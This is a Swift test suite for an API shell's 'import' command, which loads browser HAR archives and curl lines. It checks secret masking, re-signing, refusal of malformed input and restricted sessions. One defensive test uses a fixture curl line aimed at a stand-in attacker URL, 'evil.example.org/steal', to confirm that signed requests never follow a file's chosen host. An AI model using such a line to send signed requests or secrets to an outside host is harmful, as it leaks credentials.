import CompShareOrderedJSON
import CompShareWire
import CompshTestSupport
import FoundationEssentials
import Testing

@testable import CompshShell

/// `import`: calls of others among the exchanges, and what works on them.
@MainActor
struct ImportTests {
    private let folder = TemporaryFolder()

    /// What a browser has saved: a call of the console's, one that failed, one of another service.
    private static let archive = #"""
        {"log":{"version":"1.2","creator":{"name":"WebInspector"},"entries":[
        {"startedDateTime":"2026-11-26T02:00:00Z","time":2000,"request":{"method":"POST","url":"https://api.compshare.cn/",
        "headers":[{"name":":method","value":"POST"},{"name":"cookie","value":"session=verysecretcookie"},
        {"name":"referer","value":"https://console.example/?token=refererstoken"}],
        "postData":{"mimeType":"application/json","text":
        "{\"Action\":\"DescribeUserCommunityImages\",\"Region\":\"cn-wlcb\",\"TargetTopOrganizationId\":12345,\"Limit\":1,\"ProjectId\":\"org-theirs\",\"csrf_token\":\"theircsrftoken\",\"PublicKey\":\"theirpublickey000000\",\"Signature\":\"theirsignature\"}"}},
        "response":{"status":200,"headers":[],"content":{"text":
        "{\"RetCode\":0,\"Action\":\"DescribeUserCommunityImagesResponse\",\"TotalCount\":1,\"CompshareImageGroup\":[{\"GroupId\":\"theirs\",\"Password\":\"theirpassword\"}]}"}}},
        {"startedDateTime":"2026-11-26T02:00:01Z","time":1,"request":{"method":"GET","url":"https://api.compshare.cn/?Action=GetRegion"},
        "response":{"status":200,"headers":[],"content":{"text":"{\"RetCode\":171,\"Action\":\"GetRegionResponse\",\"Message\":\"Signature VerifyAC Error\"}"}}},
        {"request":{"method":"GET","url":"https://example.com/app.js"}}]}}
        """#

    private func shell(
        isTerminal: Bool = false, isRestricted: Bool = false,
        configure: (inout Session.Configuration) -> Void = { _ in }
    ) throws -> TestShell {
        folder.write("calls.har", Array(Self.archive.utf8))
        return try TestShell(
            isTerminal: isTerminal, isRestricted: isRestricted, columns: 160, configure: configure)
    }

    private var path: String { folder.file("calls.har") }

    @Test func callsAreBroughtInAndMarked() async throws {
        let shell = try shell()
        #expect(await shell.run("import \(path)\nexpect rows == 2\nexchanges -o json").status == 0)
        #expect(shell.errors.text.contains("2 calls brought in from calls.har; last x2 shows one"))
        #expect(shell.errors.text.contains("1 other entry is no call of this API, and left out"))
        #expect(
            shell.errors.text.contains("the sender's own: ProjectId, csrf_token, PublicKey, Signature;"))
        let json = try JSONValue(parsing: shell.output.text.drop { $0 != "{" }.description)
        #expect(json["exchanges"]?.elements.map { $0["from"]?.string } == ["calls.har", "calls.har"])
        #expect(json["exchanges"]?[1]?["result"]?.string == "RetCode 171")
        #expect(shell.session.ring.newest?.number == 2)
    }

    @Test func theViewsShowWhatTheFileHolds() async throws {
        let shell = try shell()
        let text = """
            import \(path)
            last x1 json
            last x1 request
            last x1 timing
            expect status == 200
            expect $x1.TotalCount == 1
            """
        #expect(await shell.run(text).status == 0)
        #expect(shell.output.text.contains(#""GroupId": "theirs""#))
        #expect(shell.output.text.contains("brought in from calls.har; this session has not sent it"))
        #expect(shell.output.text.contains("> POST https://api.compshare.cn/"))
        #expect(shell.output.text.contains(/total +2\.0 s/))
        #expect(shell.errors.text.contains("brought in from calls.har, nothing was sent"))
        // It was not this session that has waited.
        #expect(!shell.errors.text.contains("(2.00 s)"))
    }

    /// All that is secret in the file, by what views it might be seen.
    @Test(arguments: [
        "last x1", "last x1 request", "last x1 raw", "last x1 har", "sign x1", "curl x1", "exchanges",
        "diff x1 x2",
    ])
    func secretsOfTheFileAreMasked(view: String) async throws {
        let shell = try shell(isTerminal: true)
        #expect(await shell.run("import \(path)\n\(view)").status == 0)
        let text = shell.output.text + shell.errors.text
        for secret in [
            "verysecretcookie", "theircsrftoken", "theirsignature", "theirpassword", "refererstoken",
            "theirpublickey000000",
        ] {
            #expect(!text.contains(secret), "\(secret)")
        }
    }

    @Test func againIsSignedAndSentAsTheSessionsOwn() async throws {
        let shell = try shell { $0.settings.project.set("org-demo01", from: .flag("--project")) }
        #expect(await shell.run("import \(path)\nagain x1\ndiff x1 x3").status == 0)
        let entry = try #require(shell.session.ring.newest)
        #expect(entry.origin == nil)
        #expect(
            entry.exchange.request.parameters.flattened.map { "\($0.name)=\($0.text)" } == [
                "Action=DescribeUserCommunityImages", "ProjectId=org-demo01", "Region=cn-wlcb",
                "TargetTopOrganizationId=12345", "Limit=1",
            ])
        #expect(entry.exchange.request.headers["Cookie"] == nil)
        #expect(entry.exchange.request.endpoint.isLoopback)
        let sent = try #require(entry.exchange.attempts.last).request
        #expect(sent.parameters["PublicKey"]?.text == shell.session.credentials?.publicKey)
        #expect(shell.errors.text.contains("x1 → x3:"))
    }

    /// What a page proves itself with is no secret by its name everywhere.
    @Test(arguments: ["_csrf", "X-XSRF"]) func aPagesProofIsLeftOut(name: String) async throws {
        folder.write(
            "page.txt", Array("curl 'https://api.compshare.cn/' -d 'Action=GetRegion&\(name)=1234'".utf8))
        let shell = try shell()
        #expect(await shell.run("import \(folder.file("page.txt"))\nagain x1\nlast x2 request").status == 0)
        #expect(shell.errors.text.contains("the sender's own: \(name)"), "\(shell.errors.text)")
        #expect(!shell.output.text.contains(name), "\(shell.output.text)")
    }

    /// A file does not choose where a signed request goes.
    @Test func whatIsSignedGoesWhereTheSessionSends() async throws {
        folder.write("evil.txt", Array("curl 'https://evil.example.org/steal' -d 'Action=GetRegion'".utf8))
        let shell = try shell(isTerminal: true)
        #expect(await shell.run("import \(folder.file("evil.txt"))").status == 0)
        shell.output.bytes = []
        #expect(
            await shell.run("curl --with-secrets x1; curl x1; last x1 curl; last x1 python; sign x1").status
                == 0)
        #expect(!shell.output.text.contains("evil.example.org"))
        #expect(shell.output.text.contains(shell.session.settings.endpoint.value.host))
        // Where it went is shown all the same.
        #expect(await shell.run("last x1 request; last x1 har").status == 0)
        #expect(
            shell.output.text.matches(of: #/evil\.example\.org/steal/#).count == 2, "\(shell.output.text)")
    }

    @Test func timesKeepTheirMilliseconds() async throws {
        let entry =
            #"{"startedDateTime":"2026-11-26T02:00:00.123Z","request":{"method":"GET","url":"https://api.compshare.cn/?Action=GetRegion"},"response":{"status":200,"content":{"text":"{}"}}}"#
        folder.write("one.jsonl", Array((entry + "\n").utf8))
        let shell = try shell()
        #expect(await shell.run("import \(folder.file("one.jsonl"))\nlast x1 har").status == 0)
        #expect(shell.output.text.contains("00.123"), "\(shell.output.text)")
    }

    /// Into a pipe too.
    @Test func whyShowsNoCodesOfTheServers() async throws {
        let entry =
            #"{"request":{"method":"GET","url":"https://api.compshare.cn/?Action=GetRegion"},"response":{"status":200,"content":{"text":"{\"RetCode\":9999,\"Message\":\"a\\u001b[2Jb\\u202ec\"}"}}}"#
        folder.write("one.jsonl", Array((entry + "\n").utf8))
        let shell = try shell()
        #expect(await shell.run("import \(folder.file("one.jsonl"))\nwhy x1").status == 0)
        #expect(shell.output.text.contains("␛[2Jb<U+202E>c"), "\(shell.output.text)")
        #expect(!shell.output.text.contains("\u{1B}"))
    }

    @Test func aChangeAsksAsAlways() async throws {
        folder.write(
            "stop.txt",
            Array("curl https://api.compshare.cn/ -d 'Action=StopCompShareInstance&UHostId=uhost-1'".utf8))
        let shell = try shell()
        #expect(await shell.run("import \(folder.file("stop.txt"))\nagain").status == 7)
        #expect(shell.session.ring.count == 1)
    }

    @Test(arguments: [
        "last", "last json", "last headers", "last timing", "last raw", "raw", "diff x1 x1", "echo $last.a",
        "why x1",
    ])
    func whatHasNoAnswerSaysSo(view: String) async throws {
        folder.write("c.txt", Array("curl 'https://api.compshare.cn/?Action=GetRegion'".utf8))
        let shell = try shell()
        #expect(await shell.run("import \(folder.file("c.txt"))\n\(view)").status != 0)
        #expect(shell.errors.text.contains("x1 was brought in without an answer"), "\(shell.errors.text)")
        #expect(await shell.run("last request\nlast sign\nlast curl\nexchanges\nagain").status == 0)
    }

    @Test func whyExplainsTheFailureOfAnother() async throws {
        let shell = try shell()
        #expect(await shell.run("import \(path)\nwhy x2").status == 0)
        #expect(shell.output.text.contains("RetCode 171"))
        #expect(await shell.run("why x1").status == 1)
    }

    @Test func theRingKeepsItsLimits() async throws {
        let entry =
            #"{"request":{"method":"GET","url":"https://api.compshare.cn/?Action=GetRegion"},"response":{"status":200,"content":{"text":"{}"}}}"#
        folder.write("many.jsonl", Array(repeatElement(entry + "\n", count: 70).joined().utf8))
        let shell = try shell()
        #expect(
            await shell.run("call GetRegion\nimport \(folder.file("many.jsonl"))\nexpect rows == 50").status
                == 0)
        #expect(
            shell.errors.text.contains(
                "20 earlier calls of the file are left out: 50 exchanges and 64 MiB are kept"))
        #expect(shell.errors.text.contains("x1 is no longer kept"))
        #expect(shell.session.ring.entries.count == 50)
    }

    @Test func nothingIsTimedThatWasNotSent() async throws {
        let shell = try shell()
        #expect(await shell.run("time import \(path)").status == 0)
        #expect(shell.errors.text.contains("0 requests"))
    }

    @Test func anArchiveOfThemSaysWhereTheyCameFrom() async throws {
        let shell = try shell()
        #expect(await shell.run("import \(path)\nagain x1\nlast x1 har\nlast x3 har").status == 0)
        #expect(
            shell.output.text.components(separatedBy: #""comment": "brought in from calls.har""#).count == 2)
    }

    nonisolated static let refused: [(String, String, String)] = [
        (
            "{\"log\":{\"entries\":[{]}}", "is damaged at line 1, column 21: not JSON at byte 20",
            "nothing was brought in"
        ),
        (
            "curl -d @f https://api.compshare.cn", "line 1, column 9: -d takes its value from a file",
            "nothing was brought in"
        ),
        ("images 12345", "is neither an HTTP archive", "Save all as HAR"),
        ("", "holds no entries", "a parameter Action"),
        (
            "{\"log\":{\"entries\":[{},{}]}}", "holds 2 entries, none of them a call of this API",
            "a parameter Action"
        ),
        (
            "curl \"https://a.cn/?Action=A&B=$B\"", "line 1: B holds $B, which only a shell can replace",
            "put the value"
        ),
        ("\u{FEFF}{\"log\":{\"entries\":[{}]}}", "holds 1 entry, which is no call", "a parameter Action"),
    ]

    @Test(arguments: refused)
    func whatCannotBeBroughtInIsRefused(text: String, reason: String, hint: String) async throws {
        folder.write("bad", Array(text.utf8))
        let shell = try shell()
        #expect(await shell.run("call GetRegion\nimport \(folder.file("bad"))").status == 1)
        #expect(shell.errors.text.contains(reason), "\(shell.errors.text)")
        #expect(shell.errors.text.contains(hint))
        // What there was is still there.
        #expect(shell.session.ring.entries.map(\.name) == ["x1"])
    }

    @Test func missingFilesAndFoldersAreRefused() async throws {
        let shell = try shell()
        #expect(await shell.run("import \(folder.file("none"))").status == 1)
        #expect(await shell.run("import \(folder.path)").status == 1)
        #expect(await shell.run("import /dev/zero").status == 1)
        #expect(await shell.run("import -").status == 2)
        #expect(shell.session.ring.entries.isEmpty)
    }

    @Test func aRestrictedSessionBringsInNothing() async throws {
        let shell = try shell(isRestricted: true)
        #expect(await shell.run("import \(path)").status == 1)
        #expect(shell.errors.text.contains("not allowed in a restricted session"))
        #expect(shell.session.ring.entries.isEmpty)
    }
}
